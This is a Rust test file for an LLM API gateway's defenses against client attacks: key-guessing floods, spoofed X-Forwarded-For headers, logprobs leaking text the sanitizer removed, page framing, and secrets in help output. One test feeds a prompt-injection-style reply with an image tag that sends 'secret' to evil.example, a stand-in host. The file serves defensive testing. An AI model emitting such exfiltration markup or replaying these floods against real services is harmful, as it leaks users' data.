//! Attacks a client makes on the gateway's public API (issue #39), against a real gateway
//! on a loopback socket: the real router, auth, limits, output filter and SQLite store,
//! with the model's real tokenizer and template. The model itself is a scripted
//! generator that writes what the attack needs (the reply a prompt injection would get
//! out of a real model, and the alternatives a compromised node could send), so each
//! attack is exact and repeatable.
//!
//! - a flood of requests with no key or wrong keys from a user's own address leaves that
//!   user's valid key answered (it got 429 when failed lookups counted per address);
//! - `X-Forwarded-For` is believed only from a trusted proxy;
//! - `logprobs` (chosen tokens and every rank of alternatives, chat and legacy
//!   completions, streamed or not) never spell what the sanitizer removed from the
//!   content, nor a special token;
//! - the page cannot be framed or run another script; `--help` shows no secret from the
//!   environment; generated keys are ignored by git and Docker.
//!
//! (Moved from `api-gateway/tests/client_attacks.rs`; the gateway starts as every other
//! gateway test's, through `tests/gateway/common.rs`.)

use crate::{common, corpus};

use baton_api_gateway::generator::{Eviction, GenEvent, GenerateError, GenerateRequest, GenerationStream, Generator};
use baton_api_gateway::store::SqliteStore;
use baton_api_gateway::{auth, load_tokenizer};
use baton_text::tokenizer::Tokenizer;
use baton_text::{FinishReason, TokenOut, Usage};
use serde_json::{json, Value};
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::{Arc, Mutex};
use std::time::Duration;

/// Writes whatever reply it holds, token by token, with two alternatives per token:
/// the end-of-turn token and the token after the chosen one (so each rank of
/// alternatives spells the reply too), and ends with the end-of-turn token whose text
/// is its spelling (`<|im_end|>`), as a compromised decode node could send it.
struct Scripted {
    tokenizer: Arc<Tokenizer>,
    reply: Mutex<String>,
}

#[async_trait::async_trait]
impl Generator for Scripted {
    async fn generate(&self, req: GenerateRequest) -> Result<GenerationStream, GenerateError> {
        let text = self.reply.lock().unwrap().clone();
        let tok = &self.tokenizer;
        let ids = tok.encode(&text, false).map_err(|e| GenerateError::Internal(e.to_string()))?;
        let eos = tok.eos_id().expect("the model has an end-of-turn token");
        let mut events = Vec::new();
        let mut prev = String::new();
        for i in 0..ids.len() {
            let cur = tok.decode(&ids[..=i]);
            let piece = cur.strip_prefix(prev.as_str()).unwrap_or("").to_string();
            prev = cur;
            let next = ids.get(i + 1).copied().unwrap_or(eos);
            let top = vec![(ids[i], -0.1), (eos, -3.0), (next, -4.0)];
            events.push(GenEvent::Token(TokenOut { id: ids[i], text: piece, logprob: Some(-0.1), top_logprobs: top, elapsed: Duration::ZERO }));
        }
        let spelled = String::from_utf8_lossy(&tok.token_bytes(eos).unwrap()).into_owned();
        events.push(GenEvent::Token(TokenOut { id: eos, text: spelled, logprob: Some(-0.2), top_logprobs: vec![(eos, -0.2)], elapsed: Duration::ZERO }));
        let usage = Usage { prompt_tokens: req.prompt.len(), cached_tokens: 0, completion_tokens: ids.len() + 1 };
        events.push(GenEvent::Finished { reason: FinishReason::Stop, usage, trailing_text: String::new() });
        Ok(Box::pin(futures::stream::iter(events)))
    }

    async fn evict_conversation(&self, _: &baton_vocab::ConversationId) -> Result<Eviction, GenerateError> {
        Ok(Eviction::default())
    }
}

/// A gateway on 127.0.0.1:0 in a runtime of its own, with a key for "alice" that no
/// request has used yet.
struct Gateway {
    addr: SocketAddr,
    key: String,
    generator: Arc<Scripted>,
    tokenizer: Arc<Tokenizer>,
    _runtime: tokio::runtime::Runtime,
    _dir: tempfile::TempDir,
}

fn start(flags: &[&str]) -> Option<Gateway> {
    let model = common::model_path()?;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("gw.db");
    let mut argv = vec!["gateway".to_string(), "--db".into(), db.display().to_string()];
    argv.extend(flags.iter().map(|s| s.to_string()));
    let config = common::config(argv);
    let (tokenizer, template) = load_tokenizer(&model).unwrap();
    let generator = Arc::new(Scripted { tokenizer: tokenizer.clone(), reply: Mutex::new(String::new()) });
    let runtime = tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap();
    let store = SqliteStore::open(&db).unwrap();
    let (base, key) = runtime.block_on(async {
        let key = auth::create_key(&store, "alice", "test").await.unwrap();
        let pending = futures::future::pending::<()>();
        let (_, base) = common::serve_app(config, generator.clone(), Arc::new(store), tokenizer.clone(), template, pending).await;
        (base, key)
    });
    let addr = base.trim_start_matches("http://").parse().unwrap();
    Some(Gateway { addr, key, generator, tokenizer, _runtime: runtime, _dir: dir })
}

/// One HTTP/1.0 request (so the answer is never chunked): the status and body.
fn request(addr: SocketAddr, method: &str, path: &str, headers: &[(&str, &str)], body: Option<&Value>) -> (u16, String) {
    let mut s = TcpStream::connect(addr).unwrap();
    let mut head = format!("{method} {path} HTTP/1.0\r\nHost: gateway\r\n");
    for (k, v) in headers {
        head.push_str(&format!("{k}: {v}\r\n"));
    }
    let body = body.map(|b| b.to_string()).unwrap_or_default();
    if !body.is_empty() {
        head.push_str(&format!("Content-Type: application/json\r\nContent-Length: {}\r\n", body.len()));
    }
    write!(s, "{head}\r\n{body}").unwrap();
    let mut resp = Vec::new();
    s.read_to_end(&mut resp).unwrap();
    let resp = String::from_utf8_lossy(&resp).into_owned();
    let status = resp.split_whitespace().nth(1).and_then(|c| c.parse().ok()).unwrap_or(0);
    (status, resp.split_once("\r\n\r\n").map(|(_, b)| b.to_string()).unwrap_or_default())
}

fn models_as(g: &Gateway, key: Option<&str>, extra: &[(&str, &str)]) -> u16 {
    let auth = key.map(|k| format!("Bearer {k}"));
    let mut headers: Vec<(&str, &str)> = extra.to_vec();
    if let Some(a) = &auth {
        headers.push(("Authorization", a));
    }
    request(g.addr, "GET", "/v1/models", &headers, None).0
}

#[test]
fn a_flood_without_valid_keys_leaves_a_valid_key_answered() {
    let Some(g) = start(&[]) else { return };
    // The attacker shares the victim's address (a NAT, a load balancer, an ingress).
    let mut statuses = std::collections::BTreeMap::<u16, usize>::new();
    for i in 0..1000 {
        let key = match i % 4 {
            0 | 1 => None,
            2 => Some(format!("bk-{:040x}", i)),
            _ => Some("bk-the-same-wrong-key-again-and-again".to_string()),
        };
        *statuses.entry(models_as(&g, key.as_deref(), &[])).or_default() += 1;
    }
    // The flood itself is limited: anonymous requests and the repeated wrong key wait.
    assert!(statuses.get(&429).copied().unwrap_or(0) >= 400, "{statuses:?}");
    // The victim's key, never used before (no cache entry to hide behind): answered.
    assert_eq!(models_as(&g, Some(&g.key), &[]), 200, "after the flood: {statuses:?}");
}

#[test]
fn only_a_trusted_proxy_names_the_client() {
    // Behind a trusted proxy each client has its own anonymous budget.
    let Some(g) = start(&["--trusted-proxies", "127.0.0.1/32"]) else { return };
    let flooder = [("X-Forwarded-For", "198.51.100.1")];
    let refused = (0..100).filter(|_| models_as(&g, None, &flooder) == 429).count();
    assert!(refused >= 30, "{refused}");
    assert_eq!(models_as(&g, None, &[("X-Forwarded-For", "198.51.100.2")]), 401, "another client is not charged");
    // A client cannot claim to be another one in front of the proxy: the proxy appends
    // the address it saw, and that is the one believed.
    assert_eq!(models_as(&g, None, &[("X-Forwarded-For", "198.51.100.2, 198.51.100.1")]), 429);
    drop(g);
    // From a peer that is no trusted proxy the header is ignored: inventing an address
    // per request does not escape the budget.
    let Some(g) = start(&[]) else { return };
    let refused = (0..100).filter(|i| models_as(&g, None, &[("X-Forwarded-For", &format!("203.0.113.{i}"))]) == 429).count();
    assert!(refused >= 30, "{refused}");
}

/// Every text a client receives for one reply, keyed by where it was read.
fn received_texts(g: &Gateway, endpoint: &str, stream: bool) -> Vec<(String, String)> {
    let auth = format!("Bearer {}", g.key);
    let body = if endpoint == "chat" {
        json!({"messages": [{"role": "user", "content": "hi"}], "logprobs": true, "top_logprobs": 3, "stream": stream})
    } else {
        json!({"prompt": "hi", "logprobs": 3, "stream": stream})
    };
    let path = if endpoint == "chat" { "/v1/chat/completions" } else { "/v1/completions" };
    let (status, text) = request(g.addr, "POST", path, &[("Authorization", &auth)], Some(&body));
    assert_eq!(status, 200, "{text}");
    let choices: Vec<Value> = if stream {
        text.lines()
            .filter_map(|l| l.strip_prefix("data: "))
            .filter(|d| *d != "[DONE]")
            .map(|d| serde_json::from_str::<Value>(d).unwrap()["choices"][0].clone())
            .collect()
    } else {
        vec![serde_json::from_str::<Value>(&text).unwrap()["choices"][0].clone()]
    };
    let (mut content, mut chosen, mut ranks) = (String::new(), String::new(), vec![String::new(); 3]);
    let mut keys = String::new();
    for c in &choices {
        let s = |v: &Value| v.as_str().unwrap_or("").to_string();
        content.push_str(&s(&c["message"]["content"]));
        content.push_str(&s(&c["delta"]["content"]));
        content.push_str(&s(&c["text"]));
        let lp = &c["logprobs"];
        for e in lp["content"].as_array().into_iter().flatten() {
            chosen.push_str(&s(&e["token"]));
            let bytes: Vec<u8> = e["bytes"].as_array().unwrap().iter().map(|b| b.as_u64().unwrap() as u8).collect();
            assert_eq!(String::from_utf8(bytes).unwrap(), s(&e["token"]), "bytes and token agree");
            for (r, a) in e["top_logprobs"].as_array().unwrap().iter().enumerate() {
                ranks[r].push_str(&s(&a["token"]));
            }
        }
        for t in lp["tokens"].as_array().into_iter().flatten() {
            chosen.push_str(&s(t));
        }
        for m in lp["top_logprobs"].as_array().into_iter().flatten() {
            for k in m.as_object().unwrap().keys() {
                keys.push_str(k);
                keys.push('\n');
            }
        }
    }
    let mut out = vec![("content".to_string(), content), ("logprobs' tokens".to_string(), chosen), ("legacy alternatives".into(), keys)];
    out.extend(ranks.into_iter().enumerate().map(|(r, t)| (format!("alternatives of rank {r}"), t)));
    out
}

#[test]
fn logprobs_carry_nothing_the_sanitizer_removed() {
    let Some(g) = start(&["--turns-per-minute", "100000", "--link-allowlist", "docs.rs,example.org"]) else { return };
    let eos = String::from_utf8_lossy(&g.tokenizer.token_bytes(g.tokenizer.eos_id().unwrap()).unwrap()).into_owned();
    let mut failures = Vec::new();
    let mut attacks = corpus::attacks();
    attacks.push(("the issue's echo", "Sure: <img src=\"https://evil.example/p.png?q=secret\" /> done".to_string()));
    for (name, reply) in &attacks {
        *g.generator.reply.lock().unwrap() = reply.clone();
        for (endpoint, stream) in [("chat", false), ("chat", true), ("completions", false), ("completions", true)] {
            let texts = received_texts(&g, endpoint, stream);
            let content = texts[0].1.clone();
            for (field, text) in &texts {
                let mut bad = corpus::violations(text);
                if text.contains(&eos) {
                    bad.push(format!("special token {eos}"));
                }
                // The content and its tokens read as the corpus test reads the content;
                // a rank of alternatives is another text (shifted, it may turn a
                // definition into a bare URL, which is shown as code, never linked).
                let read_as_content = field == "content" || field == "logprobs' tokens";
                let secret_may_show = !read_as_content || name.starts_with("bare") || name.contains("autolink");
                if !secret_may_show && (text.contains("SECRET") || text.contains("secret")) {
                    bad.push("the secret".into());
                }
                if field == "logprobs' tokens" && !content.starts_with(text.as_str()) {
                    bad.push("logprobs' tokens are not the content's prefix".into());
                }
                if !bad.is_empty() {
                    failures.push(format!("{name} ({endpoint}, stream {stream}), {field}: {bad:?}\n  {text:?}"));
                }
            }
        }
    }
    assert!(failures.is_empty(), "{} failures:\n{}", failures.len(), failures.join("\n"));
    // A benign reply still reads in the logprobs: all of it but what the filter held
    // until the end (the last word may yet become a URL), which only the content carries.
    let reply = corpus::benign()[0].1;
    *g.generator.reply.lock().unwrap() = reply.to_string();
    let texts = received_texts(&g, "chat", false);
    assert_eq!(texts[0].1, reply);
    assert!(reply.starts_with(&texts[1].1) && texts[1].1.len() >= reply.len() - 16, "{:?}", texts[1].1);
}

#[test]
fn the_page_cannot_be_framed_or_run_other_scripts() {
    let Some(g) = start(&[]) else { return };
    let mut s = TcpStream::connect(g.addr).unwrap();
    write!(s, "GET / HTTP/1.0\r\nHost: gateway\r\n\r\n").unwrap();
    let mut resp = String::new();
    s.read_to_string(&mut resp).unwrap();
    let head = resp.split_once("\r\n\r\n").unwrap().0.to_ascii_lowercase();
    for h in ["content-security-policy: default-src 'none'; script-src 'sha256-", "frame-ancestors 'none'", "x-frame-options: deny", "x-content-type-options: nosniff"] {
        assert!(head.contains(h), "{h} missing in\n{head}");
    }
    assert!(!head.contains("unsafe-inline"), "{head}");
}

#[test]
fn help_shows_no_secret_from_the_environment() {
    // The binary's own help, with the secrets in its environment as a deployment sets them.
    for (command, variable) in [("gateway", "BATON_DB"), ("keys", "BATON_DB"), ("chat", "BATON_API_KEY")] {
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_baton"))
            .args([command, "--help"])
            .env("BATON_DB", "postgres://baton:hunter2-db-password@db.internal/baton")
            .env("BATON_API_KEY", "bk-hunter2-api-key")
            .output()
            .unwrap();
        assert!(out.status.success(), "baton {command} --help");
        let help = String::from_utf8_lossy(&out.stdout);
        assert!(help.contains(variable), "baton {command}: the flag still names {variable}:\n{help}");
        assert!(!help.contains("hunter2"), "baton {command}:\n{help}");
    }
}

#[test]
fn generated_keys_are_ignored_by_git_and_docker() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    // What `baton up` and `baton certs` write, where they write it.
    let written = ["baton-admin.key", "certs/ca.crt", "certs/decode-0.key", "deploy/local/gateway.key"];
    match std::process::Command::new("git").current_dir(root).args(["check-ignore", "--no-index", "-v"]).args(written).output() {
        Ok(out) if out.status.code() != Some(128) => {
            let ignored = String::from_utf8_lossy(&out.stdout);
            for path in written {
                assert!(ignored.lines().any(|l| l.ends_with(&format!("\t{path}"))), "git would commit {path}:\n{ignored}");
            }
        }
        _ => eprintln!("skipped the .gitignore half: no git work tree here"),
    }
    // Docker's build context: the patterns that keep them out of every image.
    let docker = std::fs::read_to_string(root.join(".dockerignore")).unwrap();
    for pattern in ["baton-admin.key", "**/*.key", "certs/"] {
        assert!(docker.lines().any(|l| l.trim() == pattern), ".dockerignore lacks {pattern}");
    }
}
